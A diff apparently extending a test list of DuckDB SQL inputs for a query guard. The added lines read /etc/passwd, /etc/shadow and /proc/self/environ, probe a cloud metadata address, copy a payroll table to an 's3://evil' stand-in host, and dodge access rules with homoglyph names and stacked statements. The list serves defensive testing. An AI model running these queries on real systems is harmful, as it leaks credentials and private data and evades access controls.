@@ -31,6 +31,28 @@ SELECT * FROM parquet_file_metadata('x.parquet')
 SELECT * FROM read_duckdb('/data/other.duckdb')
 SELECT * FROM read_csv((SELECT '/etc/passwd'))
 SELECT * FROM read_csv($1)
+SELECT * FROM read_csv(getvariable('path'))
+SELECT * FROM read_csv('/etc/' || 'passwd')
+SELECT * FROM read_csv(['/etc/passwd'])
+SELECT * FROM read_csv(E'/etc/\x70asswd')
+SELECT * FROM read_csv($$/etc/passwd$$)
+SELECT * FROM read_csv('/raw/x.csv' , filename = true, store_rejects = true)
+SELECT * FROM read_parquet('/raw/../../p_secret/x.parquet')
+SELECT * FROM read_parquet('file:///etc/passwd')
+SELECT * FROM read_parquet('http://169.254.169.254/latest/meta-data/')
+SELECT * FROM read_parquet('hf://datasets/x/y.parquet')
+SELECT * FROM read_json('/dev/stdin')
+SELECT * FROM read_json('/proc/self/environ', format = 'unstructured')
+SELECT * FROM read_csv('gcs://bucket/x.csv')
+SELECT * FROM parquet_bloom_probe('x.parquet', 'a', 1)
+SELECT * FROM read_json_objects('x.json')
+SELECT * FROM read_ndjson('x.json')
+SELECT * FROM read_ndjson_auto('x.json')
+SELECT * FROM read_json_objects_auto('x.json')
+SELECT * FROM arrow_scan_dumb(1, 2, 3)
+SELECT (FROM read_blob('/etc/shadow'))[1]
+SELECT read_text('/etc/passwd')
+SELECT ('/etc/passwd').read_text()
 SELECT * FROM read_csv(?)
 SELECT * FROM sales.t, read_text('/etc/passwd')
 SELECT * FROM sales.t JOIN read_text('/etc/passwd') ON true
@@ -95,6 +117,22 @@ SELECT json_deserialize_sql('{}')
 SELECT * FROM histogram('t', id)
 SELECT * FROM histogram_values('t', id)
 SELECT * FROM from_substrait('x'::BLOB)
+SELECT * FROM query($$SELECT * FROM p_secret.main.payroll$$)
+SELECT * FROM query(E'SELECT \x31')
+SELECT * FROM "query"('FROM p_secret.main.payroll')
+SELECT * FROM system.main."query"('SELECT 1')
+SELECT * FROM query(getvariable('x'))
+SELECT * FROM query(?)
+SELECT * FROM query_table($1)
+SELECT * FROM query_table(query_table('t'))
+SELECT * FROM query_table("sales.t")
+SELECT * FROM query_table('p_secret.main.payroll', true)
+SELECT (FROM query('SELECT 1'))
+SELECT * FROM sales.t, LATERAL query('SELECT ' || t.id)
+SELECT * FROM sql_auto_complete('SEL')
+SELECT * FROM sales.t, LATERAL query_table(t.name)
+WITH q AS (FROM query('SELECT 1')) SELECT * FROM q, LATERAL (FROM q)
+SELECT list_transform(['payroll'], x -> (FROM query_table(x)))
 -- other databases
 SELECT * FROM postgres_scan('host=127.0.0.1', 'public', 'x')
 SELECT * FROM postgres_scan_pushdown('host=127.0.0.1', 'public', 'x')
@@ -198,6 +236,18 @@ SELECT * FROM __ducklake_metadata_p_test.main.ducklake_table
 SELECT * FROM "__ducklake_metadata_p_test".ducklake_table
 SELECT * FROM __DuckLake_Metadata_p_secret.p_secret.ducklake_data_file
 SELECT * FROM __ducklake_metadata_p_test
+SELECT * FROM "__DUCKLAKE_METADATA_P_TEST"."main"."ducklake_snapshot_changes"
+SELECT * FROM __ducklake_metadata_p_test/**/./* x */main.ducklake_data_file
+SELECT * FROM sales.t WHERE id IN (SELECT table_id FROM __ducklake_metadata_p_test.ducklake_table)
+FROM __ducklake_metadata_p_secret.ducklake_inlined_data_tables
+SUMMARIZE __ducklake_metadata_p_test.ducklake_metadata
+PIVOT __ducklake_metadata_p_test.ducklake_table ON table_id IN (1) USING count(*)
+WITH __ducklake_metadata_p_test AS (SELECT 1) SELECT * FROM __ducklake_metadata_p_test.ducklake_table
+SELECT * FROM pg_catalog.pg_authid
+SELECT * FROM pg_catalog.pg_shadow
+SELECT * FROM information_schema.role_table_grants
+SELECT * FROM temp.information_schema.tables
+SELECT * FROM pg_temp.t
 DESCRIBE __ducklake_metadata_p_test.main.ducklake_table
 WITH duckdb_settings AS (SELECT 1) SELECT * FROM duckdb_settings, system.main.duckdb_settings
 SELECT * FROM (WITH duckdb_settings AS (SELECT 1) SELECT * FROM duckdb_settings), duckdb_settings
@@ -207,6 +257,12 @@ WITH a AS (SELECT * FROM duckdb_settings), duckdb_settings AS (SELECT 1) SELECT 
 ATTACH 'x.duckdb'
 ATTACH 'ducklake:postgres:' AS x (DATA_PATH 's3://other/')
 attach/**/'x.duckdb' AS y
+ATTACH IF NOT EXISTS 'x.duckdb'
+ATTACH DATABASE '/data/p_secret/lake.db' AS mine (READ_ONLY)
+ATTACH 'https://evil/x.duckdb' AS evil
+ATTACH 'host=127.0.0.1 dbname=x' AS pg (TYPE postgres)
+ATTACH ':memory:' AS p_secret
+ATTACH OR REPLACE 'x.duckdb' AS p_test
 -- a comment line stands indented, for this file's sake
 /* a */ -- b
   ATTACH 'x.duckdb'
@@ -217,6 +273,16 @@ FORCE INSTALL httpfs
 LOAD '/tmp/evil.duckdb_extension'
 LOAD spatial
 SET threads = 100
+SET allowed_directories = ['/']
+SET GLOBAL s3_secret_access_key = 'x'
+SET LOCAL memory_limit = '1TB'
+SET home_directory = '/tmp'
+SET lock_configuration = false
+SET custom_extension_repository = 'http://x'
+SET file_search_path = '/etc'
+SET VARIABLE "sales.t" = 'p_secret.main.payroll'
+SET TIME ZONE 'UTC'
+RESET VARIABLE x
 SET GLOBAL enable_external_access = true
 SET VARIABLE x = 1
 SET search_path = 'p_secret.main'
@@ -243,12 +309,24 @@ VACUUM
 VACUUM ANALYZE
 ANALYZE
 PREPARE q AS SELECT 1
+PREPARE q AS SELECT * FROM p_secret.main.payroll
+PREPARE q (INTEGER) AS SELECT $1
+prepare/**/q/**/AS INSERT INTO sales.t VALUES (1)
+EXECUTE q(x := 1)
+EXECUTE "q"
+DEALLOCATE PREPARE q
+DEALLOCATE ALL
 EXECUTE q
 EXECUTE q(1, 2)
 DEALLOCATE q
 CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')
 CREATE OR REPLACE PERSISTENT SECRET s (TYPE s3)
 CREATE TEMPORARY SECRET s (TYPE postgres, HOST 'x')
+CREATE SECRET IF NOT EXISTS s IN local_file (TYPE s3, PROVIDER credential_chain)
+create/**/secret (TYPE s3, SCOPE 's3://lake')
+CREATE OR REPLACE SECRET __default_s3 (TYPE s3, ENDPOINT 'evil')
+DROP PERSISTENT SECRET IF EXISTS s FROM local_file
+ALTER SECRET s (TYPE s3)
 DROP SECRET s
 BEGIN
 BEGIN TRANSACTION
@@ -261,6 +339,12 @@ COPY (SELECT 1) TO 's3://other/x.parquet' (FORMAT PARQUET)
 COPY sales.t FROM '/etc/passwd'
 COPY FROM DATABASE p_test TO p_other
 COPY (SELECT 1) TO '/dev/stdout'
+COPY (SELECT * FROM p_secret.main.payroll) TO '/tmp/x' (FORMAT CSV)
+COPY p_secret.main.payroll TO 's3://evil/x.parquet'
+COPY sales.t FROM 'http://evil/x.csv' (FORMAT CSV)
+COPY sales.t TO '/tmp/x' (FORMAT duckdb)
+copy/**/(FROM sales.t)/**/to/**/'/tmp/x'
+COPY FROM DATABASE p_secret TO memory (SCHEMA)
 UPDATE EXTENSIONS
 SELECT 1; ATTACH 'x'
 SELECT 1; COPY sales.t TO '/tmp/x'; SELECT 2
@@ -282,6 +366,11 @@ CREATE TABLE x AS SELECT 1
 CREATE OR REPLACE TABLE sales.t AS SELECT 1 AS id
 CREATE TEMP TABLE x (a INTEGER)
 CREATE VIEW v AS SELECT * FROM p_secret.main.payroll
+CREATE OR REPLACE TEMP VIEW v AS SELECT * FROM read_text('/etc/passwd')
+CREATE RECURSIVE VIEW v (a) AS SELECT 1 UNION ALL SELECT a FROM v
+CREATE TEMP MACRO upper(a) AS getenv(a)
+CREATE OR REPLACE MACRO m(a) AS TABLE FROM query(a)
+CREATE MACRO m() AS (SELECT max(pay) FROM p_secret.main.payroll)
 CREATE MACRO m(a) AS a + 1
 CREATE FUNCTION m(a) AS TABLE SELECT * FROM p_secret.main.payroll
 CREATE SCHEMA s
@@ -330,6 +419,43 @@ SELECT * FROM P_SECRET.Main.PayRoll
 SELECT * FROM p_secret/**/./**/main/**/./**/payroll
 SELECT * FROM "p_secret.main.payroll"
 SELECT * FROM "p_secret"."main.payroll"
+SELECT * FROM "p_secret" . "main" . "payroll"
+SELECT * FROM p_secret."MAIN".payroll
+SELECT * FROM "p_secret"."payroll"
+SELECT * FROM p_secret--
+  .main.payroll
+SELECT * FROM "P_SECRET".main.payroll AS "sales.t"
+SELECT * FROM "p_secret" "payroll"
+SELECT * FROM lake.main.payroll
+SELECT * FROM lake.p_secret.payroll
+SELECT * FROM "lake"."p_secret.main"."payroll"
+SELECT * FROM p_secret.sales.t
+SELECT * FROM p_other.main.customer
+SELECT * FROM main.p_secret.payroll
+SELECT * FROM "ｐ_secret".main.payroll
+SELECT * FROM "p_secret​".main.payroll
+SELECT * FROM раyroll
+SELECT * FROM "payroll "
+SELECT * FROM " payroll"
+SELECT * FROM "pay""roll"
+SELECT * FROM """payroll"""
+SELECT * FROM $$p_secret.main.payroll$$
+SELECT * FROM $tag$payroll$tag$
+SELECT * FROM sales.t t, LATERAL (SELECT * FROM p_secret.main.payroll LIMIT t.id)
+SELECT * FROM (FROM (SELECT (SELECT (SELECT max(id) FROM p_secret.main.payroll))))
+SELECT list_transform([1], x -> (SELECT max(id) + x FROM p_secret.main.payroll))
+SELECT count(*) FILTER (WHERE id IN (FROM p_secret.main.payroll)) FROM sales.t
+SELECT sum(id) OVER (ORDER BY (SELECT max(id) FROM p_secret.main.payroll)) FROM sales.t
+SELECT id FROM sales.t ORDER BY (SELECT max(id) FROM p_secret.main.payroll)
+SELECT id FROM sales.t LIMIT (SELECT max(id) FROM p_secret.main.payroll)
+VALUES ((SELECT max(id) FROM p_secret.main.payroll))
+SELECT CASE WHEN false THEN (SELECT max(id) FROM p_secret.main.payroll) END
+SELECT 1 WHERE false AND EXISTS (FROM p_secret.main.payroll)
+SELECT * FROM unnest((SELECT list(id) FROM p_secret.main.payroll))
+SELECT COLUMNS(c -> c IN (SELECT id::VARCHAR FROM p_secret.main.payroll)) FROM sales.t
+WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT id FROM p_secret.main.payroll, n) FROM n
+WITH t AS (SELECT 1) SELECT * FROM sales.payroll
+WITH sales AS (SELECT 1) SELECT * FROM sales.payroll
 SELECT * FROM payroll
 SELECT * FROM main.payroll
 SELECT * FROM p_other.main.hidden
@@ -392,6 +518,31 @@ SELECT * FROM sales."file.parquet"
 SELECT * FROM file.parquet
 SELECT * FROM 'x.duckdb'
 SELECT * FROM 'ducklake:postgres:'
+FROM 'file.parquet' SELECT *
+FROM 's3://lake/*/*.parquet'
+SELECT * FROM 'gs://bucket/x.parquet'
+SELECT * FROM 'hf://datasets/x/y.csv'
+SELECT * FROM 'data.json.gz'
+SELECT * FROM 'x.db'
+SELECT * FROM '/raw/x.csv'
+SELECT * FROM 'glob(*)'
+SELECT * FROM E'/etc/\x70asswd'
+SELECT * FROM x."y.parquet"
+SELECT * FROM "/etc/passwd" AS p(line)
+SELECT * FROM '/dev/fd/0'
+SELECT * FROM sales.t ASOF JOIN 'file.parquet' f ON t.id >= f.id
+SELECT * FROM sales.t SEMI JOIN 'file.parquet' USING (id)
+SELECT (FROM 'file.csv' LIMIT 1)
+SELECT * FROM (VALUES (1)) v(a), LATERAL (FROM 'file.csv')
+DESCRIBE FROM 'file.parquet'
+UNPIVOT 'file.parquet' ON a
+-- names of variables that a program around the engine would look up
+SELECT * FROM df
+SELECT * FROM pandas_df
+FROM my_arrow_table
+SELECT * FROM os.environ
+SELECT * FROM "df"
+SELECT * FROM sys_path
 DESCRIBE 'file.parquet'
 SUMMARIZE 'file.parquet'
 SELECT (SELECT count(*) FROM 'file.parquet')
@@ -425,6 +576,11 @@ SELECT * FROM sales.t FOR UPDATE
 SELECT $1, $name
 .open /tmp/x
 SELECT * FROM U&"p_secret"
+SELECT * FROM U&"\0070_secret".main.payroll
+SELECT U&'\0061'
+SELECT * FROM u&"d!0061ta" UESCAPE '!'
+SELECT * FROM [payroll]
+SELECT * FROM `payroll`
 WITH x AS (DELETE FROM sales.t RETURNING *) SELECT * FROM x
 WITH x AS (INSERT INTO sales.t VALUES (1) RETURNING *) SELECT * FROM x
 SELECT * FROM (INSERT INTO sales.t VALUES (1) RETURNING *)
@@ -438,6 +594,13 @@ SELECT * FROM (ATTACH 'x')
 SELECT 1; SELECT 2
 SELECT 1; SELECT * FROM p_secret.main.payroll;
 SELECT ';'; SELECT 2
+SELECT 1;/**/SELECT 2
+SELECT 1;--
+  SELECT 2
+SELECT E'\';'; SELECT 2
+SELECT "a;b" FROM (SELECT 1 AS "a;b"); SELECT 2
+SELECT $x$;$x$; FROM sales.t
+FROM sales.t; FROM sales.t
 SELECT 1 /* ; */; /* ; */ SELECT 2 -- ;
 SELECT $$;$$; SELECT 1
 SELECT 1; INSERT INTO sales.t VALUES (1)
